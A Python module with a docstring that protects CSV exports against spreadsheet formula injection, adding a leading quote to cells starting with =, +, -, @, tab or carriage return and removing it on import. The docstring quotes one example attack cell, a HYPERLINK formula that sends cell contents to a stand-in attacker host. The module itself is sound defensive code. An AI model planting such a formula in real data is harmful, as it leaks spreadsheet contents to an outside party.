"""CSV cells a spreadsheet would run as a formula, written so that it reads them as text.

Excel, LibreOffice and Google Sheets take a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula: a customer who registers with the
name ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would have it run in the
marketer's spreadsheet when an export is opened ("CSV injection"). OWASP's rule, which
exports follow by default: such a cell gets a leading single quote, which the
spreadsheet reads as "this is text". ``protected()`` adds it on export,
``unprotected()`` takes it away on import, so a protected export imports back with
its quotes as they were.

The import cannot tell which export wrote a file, and always takes one quote away.
The export for another program (``--no-formula-protection``) adds none, so a stored
value that itself begins with ``'`` and then one of those characters loses that quote
on the way back: ``'=x`` imports as ``=x``, an attribute ``'-5`` as the number -5.

A plain number (``-5``, ``2.5e-3``, an E.164 phone such as ``+12125550100``) is written
as it is: a spreadsheet reads it as a number, nothing in it can run, and a phone keeps
its E.164 form for the programs that read the file next.
"""

import re

FORMULA_STARTS = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def protected(text: str) -> str:
    """``text``, with a leading ``'`` if a spreadsheet would run it as a formula."""
    # Quotes already there count, so that importing takes away only the one added:
    # a stored "'=x" is written "''=x".
    if text.lstrip("'")[:1] in FORMULA_STARTS and not _NUMBER.match(text):
        return f"'{text}"
    return text


def unprotected(text: str) -> str:
    """``text`` as it was before ``protected()``."""
    if text.startswith("'") and text.lstrip("'")[:1] in FORMULA_STARTS:
        return text[1:]
    return text
